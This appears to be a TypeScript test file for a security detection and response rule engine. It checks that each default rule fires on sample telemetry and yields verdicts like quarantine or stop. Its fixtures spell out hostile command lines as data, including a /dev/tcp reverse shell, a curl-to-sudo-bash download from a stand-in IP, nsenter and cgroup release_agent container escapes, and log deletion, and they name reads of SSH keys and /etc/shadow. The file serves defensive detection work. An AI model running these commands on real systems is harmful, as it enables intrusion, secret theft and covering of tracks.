import { MemoryInventory } from '../planning/memory-inventory.js';
import { type DecisionContext, decide } from '../planning/planning.service.js';
import { defaultPolicy } from '../planning/response-policy.js';
import { telemetryEventOf } from '../planning/rule-test.js';
import { defaultRulesPath, readRuleFiles } from './rule-files.store.js';
import { ruleSetOf } from './rule-set.js';

const ruleSet = ruleSetOf(await readRuleFiles(defaultRulesPath));
const inventory = new MemoryInventory();
inventory.upsert({ host: 'one', id: 'a'.repeat(64), name: 'victim' });
const context: DecisionContext = { ruleSet, policy: defaultPolicy, inventory, inForce: { on: () => [] }, nowMs: 0 };

/** For each rule a signal and attributes that it is made for. */
const examples: Readonly<Record<string, readonly [string, object, object?]>> = {
  'auth-failures-repeated': ['auth', { event: { outcome: 'failure' }, 'auth.failures': 12 }],
  'auth-failures-flood': ['auth.ssh', { 'event.outcome': 'failure', 'auth.failures': 100 }],
  'auth-password-spraying': ['auth', { 'event.outcome': 'failure', 'auth.users': 10 }],
  'auth-success-after-failures': ['auth', { 'event.outcome': 'success', 'auth.failures': 40 }],
  'auth-privileged-from-outside': ['auth', { 'event.outcome': 'success' }, { user: 'Root', address: '203.0.113.7' }],
  'auth-account-changed': ['auth', { 'event.action': 'user-created' }],
  'escape-namespace-tool': ['process', { 'process.command_line': 'nsenter -t 1 -m -u -n sh' }],
  'escape-kernel-interface': ['process', { 'process.command_line': 'echo /x > /tmp/cgrp/release_agent' }],
  'kernel-module-loaded': ['process', { 'process.name': 'insmod' }],
  'container-privileged': ['container', { 'container.privileged': true }],
  'container-engine-socket': ['container', { 'container.mounts': ['/data', '/var/run/docker.sock'] }],
  'container-host-namespaces': ['container', { 'container.namespaces': ['host-pid'] }],
  'container-dangerous-capability': ['process', { 'process.capabilities': ['cap_chown', 'cap_sys_admin'] }],
  'process-shell-by-service': ['process', { 'process.name': 'sh', 'process.parent.name': 'nginx' }],
  'process-shell-by-person': ['container', { 'event.action': 'exec', 'process.name': 'bash' }],
  'process-reverse-shell': ['process', { 'process.command_line': 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1' }],
  'process-download-and-run': ['process', { 'process.command_line': 'curl -s http://203.0.113.7/x | sudo bash' }],
  'process-set-uid': ['process', { 'process.command_line': 'chmod -R 4755 /tmp/sh' }],
  'process-trace-removal': ['process', { 'process.command_line': 'rm -rf /var/log/auth.log' }],
  'mining-program': ['process', { 'process.name': 'xmrig' }],
  'mining-pool': ['network', { 'destination.domain': 'eu.NanoPool.org' }],
  'mining-pool-port': ['network', { 'network.direction': 'egress', 'destination.port': 3333 }],
  'cpu-saturated': ['container', { 'container.cpu_percent': 99.5, 'container.saturated_seconds': 600 }],
  'network-metadata-service': ['network', { 'destination.ip': '169.254.169.254' }],
  'network-known-bad': ['network', { 'threat.indicator': 'feed X: 203.0.113.7' }],
  'network-egress-denied': ['network', { 'network.direction': 'egress', 'event.outcome': 'denied' }],
  'network-egress-denied-often': [
    'network',
    { 'network.direction': 'egress', 'event.outcome': 'denied', 'network.connections': 60 },
  ],
  'network-port-scan': ['network', { 'network.ports': 1000 }],
  'network-large-upload': [
    'network',
    { 'network.direction': 'egress', 'network.bytes': 2 ** 31, 'destination.ip': '203.0.113.7' },
  ],
  'network-tor': ['network', { 'network.direction': 'egress', 'destination.port': 9050 }],
  'file-program-changed': ['file', { 'event.action': 'modified', 'file.path': '/usr/bin/ssh' }],
  'file-baseline-differs': ['file', { 'file.hash_matches': false }],
  'file-accounts-changed': ['file', { 'event.action': 'modified', 'file.path': '/etc/shadow' }],
  'file-secrets-read': ['file', { 'event.action': 'read', 'file.path': '/root/.ssh/id_ed25519' }],
  'file-start-up-changed': ['file', { 'event.action': 'created', 'file.path': '/etc/cron.d/x' }],
  'file-mass-encryption': ['file', { 'event.action': 'encrypted', 'file.changes': 5000 }],
  'file-mass-deletion': ['file', { 'event.action': 'deleted', 'file.changes': 5000 }],
  'health-crash-loop': ['health', { 'container.restarts': 6 }],
  'health-out-of-memory': ['health', { 'event.action': 'oom' }],
  'health-hung': ['health', { 'container.silent_seconds': 200 }],
  'health-error-burst': ['health', { 'http.server_errors_percent': 80 }],
  'health-sensor-silenced': ['process', { 'event.action': 'killed', 'process.name': 'falco' }],
};

const verdictOn = (signal: string, data: object): string => decide(telemetryEventOf(signal, data), context).verdict;

describe('the default rules', () => {
  it('have an example each', () => {
    expect(Object.keys(examples).sort()).toEqual(ruleSet.rules.map(({ id }) => id));
  });

  it.each(Object.entries(examples))('find what %s is made for', (id, [signal, attributes, target = {}]) => {
    const event = telemetryEventOf(signal, { source: 'sensor', attributes, target });
    expect(ruleSet.match(event).map((rule) => rule.id)).toContain(id);
  });

  it('quarantine a container at severity 10, whatever the signal', () => {
    for (const signal of ['auth', 'process', 'network', 'file', 'health', 'container', 'anything.else']) {
      const decision = decide(
        telemetryEventOf(signal, { source: 'web', severity: 10, target: { container: 'victim' } }),
        context,
      );
      expect(decision).toMatchObject({ score: 90, verdict: 'quarantine', plan: { kind: 'request', host: 'one' } });
    }
  });

  it.each([
    [0, 'observe'],
    [5, 'observe'],
    [6.9, 'notify'],
    [7, 'notify'],
    [8, 'notify'],
    [9, 'isolate'],
    [10, 'quarantine'],
  ])('lead from severity %d alone to %s', (severity, verdict) => {
    expect(verdictOn('auth', { source: 'web', severity })).toBe(verdict);
  });

  it.each([
    ['process', { 'process.command_line': 'bash -c "echo > /dev/tcp/localhost/8080"' }],
    ['process', { 'process.command_line': 'curl -fsS http://localhost:8080/health' }],
    ['process', { 'process.name': 'sh', 'process.parent.name': 'runc', 'process.command_line': 'sh -c pg_isready' }],
    ['network', { 'network.direction': 'egress', 'network.bytes': 2 ** 40, 'destination.ip': '10.1.2.3' }],
    ['file', { 'event.action': 'read', 'file.path': '/run/secrets/db' }],
    ['auth', { 'event.outcome': 'failure', 'auth.failures': 2 }],
  ])('say nothing to an ordinary day: %s %j', (signal, attributes) => {
    expect(decide(telemetryEventOf(signal, { source: 'sensor', attributes }), context).score).toBe(0);
  });

  it('stop what encrypts files, and throttle or restart only where a rule asks for it', () => {
    const target = { container: 'victim' };
    const verdictOf = (id: string): string => {
      const [signal, attributes] = examples[id] ?? ['', {}];
      return verdictOn(signal, { source: 'sensor', target, attributes });
    };
    expect(verdictOf('file-mass-encryption')).toBe('stop');
    expect(verdictOf('cpu-saturated')).toBe('throttle');
    expect(verdictOf('health-hung')).toBe('restart');
    expect(verdictOf('process-reverse-shell')).toBe('quarantine');
    expect(verdictOf('mining-program')).toBe('quarantine');
  });
});
